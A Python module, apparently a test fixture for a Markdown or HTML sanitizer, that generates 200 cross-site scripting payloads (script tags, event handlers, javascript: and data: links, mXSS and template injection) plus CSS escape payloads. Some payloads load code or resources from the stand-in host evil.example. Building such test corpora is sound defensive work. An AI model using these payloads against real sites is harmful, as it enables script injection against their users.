"""Two hundred ways in which text has become script, each calling alert(n)."""

SHAPES = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<a href='javascript:alert({n})'>x</a>",
    "[x](javascript:alert({n}))",
    "[x](JaVaScRiPt:alert({n}))",
    "[x](java\tscript:alert({n}))",
    "[x](data:text/html,<script>alert({n})</script>)",
    "[x](vbscript:alert({n}))",
    "![x](x\" onerror=\"alert({n}))",
    "![x](javascript:alert({n}))",
    "<javascript:alert({n})>",
    "`<img src=x onerror=alert({n})>`",
    "```\n</code></pre><script>alert({n})</script>\n```",
    "**<b onmouseover=alert({n})>x</b>**",
    "</textarea><script>alert({n})</script>",
    "\"><script>alert({n})</script>",
    "' onfocus=alert({n}) autofocus='",
    "<details open ontoggle=alert({n})>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<base href='https://evil.example/'><script src=a.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "{{{{constructor.constructor('alert({n})')()}}}}",
)
WRAPPED = ("{}", "> {}", "# {}", "- {}", "1. **{}**", "_{}_", "| a | b |\n|---|---|\n| {} | x |", "</script>{}<!--")
PAYLOADS = [w.format(s.format(n=1)) for s in SHAPES for w in WRAPPED]
# A business's own styles that try to leave their element or to call elsewhere.
STYLES = (
    "</style><script>alert(1)</script>",
    "<\\/style><img src=x onerror=alert(1)>",
    "a{background:url(https://evil.example/x)}",
    "@import 'https://evil.example/x.css';",
    "a{background:url( 'javascript:alert(1)' )}",
    "a{width:expression(alert(1))}",
    "a{background:u\\72l(https://evil.example/x)}",
    "a{background-image:image-set('https://evil.example/x' 1x)}",
)
